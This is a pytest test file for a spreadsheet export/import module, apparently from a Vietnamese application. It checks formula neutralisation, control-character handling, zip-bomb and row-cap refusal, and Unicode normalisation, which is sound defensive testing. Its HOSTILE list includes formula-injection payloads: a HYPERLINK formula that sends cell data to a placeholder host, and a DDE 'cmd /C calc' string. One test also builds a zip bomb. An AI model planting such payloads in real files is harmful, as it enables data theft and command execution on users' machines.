"""shared.tabular as the one place where spreadsheets are made safe (issue 12, findings 2, 3, 4, 5, 8): formulas
neutralised in every writer, a stored control character never breaks an export, a zip bomb or an endless sheet
is refused before it is parsed, an over-long CSV field is a 422 with its line, NFD headers and cells match."""
from __future__ import annotations

import csv
import io
import time
import unicodedata
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from shared import tabular
from shared.tabular import Column, TableError, parse_bool, read_table, to_csv, to_xlsx

HOSTILE = ['=HYPERLINK("http://x/?d="&A1,"Xem")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]
COLUMNS = [Column("name", "Họ và tên"), Column("amount", "Số tiền")]


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cells_that_would_run_as_formulas_start_with_an_apostrophe(value):
    rows = _csv_cells(to_csv([{"name": value, "amount": 1}], COLUMNS))
    assert rows[1][0] == "'" + value


@pytest.mark.parametrize("value", HOSTILE)
def test_xlsx_never_holds_a_formula_and_keeps_the_text_visible(value):
    data = to_xlsx([{"name": value, "amount": -5}], COLUMNS, heading="=1+1 tiêu đề", footer=["=2+2"])
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    ws = load_workbook(io.BytesIO(data)).active
    assert ws.cell(row=4, column=1).value == ("'" + value).replace("\r", "\n")  # XML reads CR as LF
    assert ws.cell(row=1, column=1).value.startswith("'=")
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_numbers_stay_numbers_negative_ones_too():
    rows = [{"name": "-1.200.000", "amount": -1_200_000}, {"name": "-3", "amount": -2.5}]
    assert [r[1] for r in _csv_cells(to_csv(rows, COLUMNS))[1:]] == ["-1200000", "-2.5"]
    assert [r[0] for r in _csv_cells(to_csv(rows, COLUMNS))[1:]] == ["-1.200.000", "-3"]
    ws = load_workbook(io.BytesIO(to_xlsx(rows, COLUMNS))).active
    assert ws.cell(row=2, column=2).value == -1_200_000 and ws.cell(row=2, column=2).data_type == "n"
    assert ws.cell(row=3, column=2).value == -2.5


@pytest.mark.parametrize("stored", ["Nguyễn\x0bVăn A", "Lê\x00Thị", "Trần\ud800B", "C1\x85x", "Phạm\x1bQ"])
def test_a_stored_control_character_never_breaks_an_export(stored):
    rows = [{"name": stored, "amount": 1}, {"name": "Bình thường", "amount": 2}]
    text = to_csv(rows, COLUMNS).decode("utf-8")
    assert "\ufffd" in text and "Bình thường" in text
    ws = load_workbook(io.BytesIO(to_xlsx(rows, COLUMNS))).active
    assert "\ufffd" in ws.cell(row=2, column=1).value


def test_values_of_other_types_are_written_as_text():
    import decimal
    import uuid
    rows = [{"name": uuid.UUID(int=1), "amount": decimal.Decimal("1.5")}]
    assert load_workbook(io.BytesIO(to_xlsx(rows, COLUMNS))).active.cell(row=2, column=1).value
    assert to_csv(rows, COLUMNS)


def _xlsx(rows: list[list], **sheet_extra) -> bytes:
    wb = Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_an_xlsx_zip_bomb_is_refused_before_any_xml_is_parsed():
    # A valid zip whose sheet expands to 300 MB of XML (compressed to a few hundred KB).
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/worksheets/sheet1.xml", "<row/>" * (50 << 20))
    started = time.monotonic()
    with pytest.raises(TableError) as info:
        read_table(data.getvalue(), "bomb.xlsx", COLUMNS, max_rows=5_000)
    assert time.monotonic() - started < 2
    assert "giải nén quá lớn" in info.value.problems[0]["message"]


def test_a_sheet_declaring_a_million_rows_is_refused_from_its_dimension():
    data = _xlsx([["Họ và tên", "Số tiền"], ["A", 1]])
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        members = {n: z.read(n) for n in z.namelist()}
    sheet = members["xl/worksheets/sheet1.xml"].decode()
    import re
    members["xl/worksheets/sheet1.xml"] = re.sub(r'<dimension ref="[^"]+"', '<dimension ref="A1:B1048576"', sheet).encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in members.items():
            z.writestr(name, body)
    with pytest.raises(TableError) as info:
        read_table(out.getvalue(), "tall.xlsx", COLUMNS, max_rows=5_000)
    assert "vượt quá 5000 dòng" in info.value.problems[0]["message"]


def test_reading_stops_at_the_row_cap_even_through_blank_lines():
    text = "Họ và tên,Số tiền\n" + "A,1\n" + ",\n" * 20_000 + "B,2\n"
    started = time.monotonic()
    with pytest.raises(TableError) as info:
        read_table(text.encode(), "a.csv", COLUMNS, max_rows=100)
    assert "vượt quá 100 dòng" in info.value.problems[0]["message"]
    assert info.value.problems[0]["line"] < 1_200
    assert time.monotonic() - started < 2


def test_a_csv_field_over_131072_characters_is_a_table_error_with_its_line():
    text = "Họ và tên,Số tiền\nA,1\n" + "x" * 140_000 + ",2\n"
    with pytest.raises(TableError) as info:
        read_table(text.encode(), "a.csv", COLUMNS)
    assert info.value.problems[0]["line"] == 3


def test_a_cell_with_a_control_character_is_refused_naming_line_and_column():
    text = "Họ và tên,Số tiền\nNguyễn\x0bA,1\n"
    with pytest.raises(TableError) as info:
        read_table(text.encode(), "a.csv", COLUMNS)
    assert info.value.problems == [{"line": 2, "field": "name", "message": "Có ký tự không hợp lệ (U+000B)."}]


def test_nfd_headers_and_cells_are_read_as_nfc():
    columns = [Column("name", "Họ và tên", required=True), Column("gender", "Giới tính", required=True),
               Column("minority", "Dân tộc thiểu số", parse=parse_bool)]
    nfd = lambda s: unicodedata.normalize("NFD", s)  # noqa: E731
    text = ",".join(map(nfd, ["Họ và tên", "Giới tính", "Dân tộc thiểu số"])) + "\n" + \
        ",".join(map(nfd, ["Nguyễn Thị Lan", "Nữ", "Có"])) + "\n"
    assert nfd("Nữ") != "Nữ"
    for data, name in ((text.encode(), "a.csv"), (_xlsx([r.split(",") for r in text.splitlines()]), "a.xlsx")):
        [row] = read_table(data, name, columns)
        assert row["name"] == "Nguyễn Thị Lan" and row["gender"] == "Nữ" and row["minority"] is True


def test_clean_text_refuses_c0_c1_and_lone_surrogates_and_normalises_to_nfc():
    assert tabular.clean_text(unicodedata.normalize("NFD", "Nữ")) == "Nữ"
    assert tabular.clean_text("a\nb\tc", multiline=True) == "a\nb\tc"
    for bad in ("a\nb", "\x00", "\x7f", "\x9f", "\ud800"):
        with pytest.raises(ValueError):
            tabular.clean_text(bad)
